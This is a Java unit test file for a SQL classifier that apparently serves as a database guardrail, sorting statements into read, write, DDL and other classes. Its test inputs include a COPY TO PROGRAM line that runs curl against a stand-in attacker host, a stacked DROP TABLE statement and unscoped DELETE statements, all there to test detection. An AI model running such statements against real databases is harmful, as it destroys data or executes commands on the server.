package dev.ward.policy.guardrails.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@Timeout(value = 60, unit = TimeUnit.SECONDS)
class SqlClassifierTest {

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "SELECT * FROM users WHERE id = 1|read|select",
        "select 1|read|select",
        "WITH t AS (SELECT 1) SELECT * FROM t|read|select",
        "SELECT * FROM accounts FOR UPDATE|read|select",
        "VALUES (1), (2)|read|select",
        "INSERT INTO users (id) VALUES (1)|write|insert",
        "UPDATE users SET name = 'x' WHERE id = 1|write|update",
        "DELETE FROM users WHERE id = 1|write|delete",
        "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone|write|delete",
        "SELECT * INTO backup FROM users|write|select-into",
        "SELECT nextval('users_id_seq')|write|select-writing-function",
        "SELECT pg_terminate_backend(1234)|unknown|select-admin-function",
        "CREATE TABLE t (id int)|ddl|create",
        "ALTER TABLE users ADD COLUMN age int|ddl|alter",
        "DROP TABLE users|ddl|drop",
        "drop table if exists public.users cascade|ddl|drop",
        "TRUNCATE users|ddl|truncate",
        "COMMENT ON TABLE users IS 'people'|ddl|comment",
        "GRANT SELECT ON users TO bob|dcl|grant",
        "REVOKE ALL ON users FROM bob|dcl|revoke",
        "CREATE ROLE admin SUPERUSER|dcl|create-role",
        "ALTER USER bob WITH PASSWORD 'x'|dcl|alter-role",
        "SET ROLE admin|dcl|set-role",
        "BEGIN|transaction-control|begin",
        "BEGIN ISOLATION LEVEL SERIALIZABLE|transaction-control|begin",
        "START TRANSACTION READ WRITE|write|transaction-read-write",
        "SET TRANSACTION READ WRITE|write|transaction-read-write",
        "SET default_transaction_read_only = off|write|transaction-read-write",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE|write|transaction-read-write",
        "COMMIT|transaction-control|commit",
        "ROLLBACK TO SAVEPOINT s1|transaction-control|rollback",
        "SAVEPOINT s1|transaction-control|savepoint",
        "SET search_path TO app, public|utility|set",
        "SHOW server_version|utility|show",
        "LISTEN orders|utility|listen",
        "VACUUM ANALYZE users|utility|vacuum",
        "EXPLAIN SELECT * FROM users|read|explain",
        "EXPLAIN ANALYZE DELETE FROM users|write|delete",
        "EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1|write|update",
        "COPY users TO STDOUT WITH CSV|read|copy-to",
        "COPY users FROM STDIN|write|copy-from",
        "COPY (SELECT 1) TO PROGRAM 'curl evil.example'|write|copy-program",
        "COPY users TO '/tmp/users.csv'|write|copy-file",
        "CALL archive_orders()|write|call",
        "DO $$ BEGIN DELETE FROM users; END $$|write|do",
        "PREPARE q AS DELETE FROM users|write|delete",
        "PREPARE q AS SELECT 1|read|prepare",
        "DECLARE c CURSOR FOR SELECT * FROM users|read|declare",
        "FETCH 10 FROM c|read|fetch",
        "REFRESH MATERIALIZED VIEW sales|write|refresh",
        "EXECUTE q|unknown|execute",
        "FROBNICATE everything|unknown|frobnicate",
        "SELECT 'unterminated|unknown|unterminated",
      })
  void statementIsClassified(String sql, String cls, String operation) {
    SqlStatement s = SqlClassifier.classify(sql).statements().getFirst();

    assertThat(s.statementClass().policyName()).isEqualTo(cls);
    assertThat(s.operation()).isEqualTo(operation);
  }

  @Test
  void semicolonsInsideLiteralsAndCommentsDoNotSplit() {
    SqlAnalysis a =
        SqlClassifier.classify(
            "SELECT 'a;b', $$c;d$$, $x$e;f$x$, \"g;h\" FROM t -- i;j\n /* k; /* l; */ m; */");

    assertThat(a.stacked()).isFalse();
    assertThat(a.statements()).hasSize(1);
  }

  @Test
  void stackedStatementsAreCounted() {
    SqlAnalysis a = SqlClassifier.classify("SELECT 1; DROP TABLE users;");

    assertThat(a.stacked()).isTrue();
    assertThat(a.statements())
        .extracting(SqlStatement::operation)
        .containsExactly("select", "drop");
  }

  @Test
  void keywordsInsideStringsAreNotTakenForStructure() {
    SqlStatement s =
        SqlClassifier.classify("SELECT 'DELETE FROM users' AS hint").statements().getFirst();

    assertThat(s.statementClass()).isEqualTo(StatementClass.READ);
  }

  @Test
  void tablesReadAndWrittenAreResolved() {
    SqlStatement s =
        SqlClassifier.classify("INSERT INTO billing.invoices SELECT * FROM public.orders")
            .statements()
            .getFirst();

    assertThat(s.writes()).containsExactly(new TableName("billing", "invoices"));
    assertThat(s.reads()).containsExactly(new TableName("public", "orders"));
    assertThat(s.tablesKnown()).isTrue();
  }

  @Test
  void quotedIdentifiersKeepTheirCase() {
    SqlStatement s =
        SqlClassifier.classify("DELETE FROM \"Billing\".\"Invoices\" WHERE id = 1")
            .statements()
            .getFirst();

    assertThat(s.writes()).containsExactly(new TableName("Billing", "Invoices"));
  }

  @Test
  void deleteWithoutWhereOrWithAlwaysTrueWhereIsFlagged() {
    assertThat(first("DELETE FROM users").missingWhere()).isTrue();
    assertThat(first("DELETE FROM users WHERE 1 = 1").missingWhere()).isTrue();
    assertThat(first("UPDATE users SET a = 1 WHERE true").missingWhere()).isTrue();
    assertThat(first("UPDATE users SET a = 1 WHERE id = 7").missingWhere()).isFalse();
  }

  @Test
  void garbageNeverThrows() {
    String[] inputs = {"", ";;;", "(((((", "'", "$$", "/*", "\u0000\u0001", "SELECT ((((((((((1"};
    for (String input : inputs) {
      SqlAnalysis a = SqlClassifier.classify(input);
      assertThat(a.statements()).allSatisfy(s -> assertThat(s.statementClass()).isNotNull());
    }
  }

  @Test
  void deeplyNestedInputIsClassifiedWithoutTheParser() {
    String sql = "SELECT " + "(".repeat(5000) + "1" + ")".repeat(5000);

    SqlStatement s = first(sql);

    assertThat(s.statementClass()).isEqualTo(StatementClass.READ);
    assertThat(s.parsed()).isFalse();
  }

  @Test
  void unbalancedParenthesesAreClassifiedWithoutTheParser() {
    SqlStatement s = first("SELECT (((((((1");

    assertThat(s.parsed()).isFalse();
    assertThat(s.statementClass()).isEqualTo(StatementClass.READ);
  }

  private static SqlStatement first(String sql) {
    return SqlClassifier.classify(sql).statements().getFirst();
  }
}
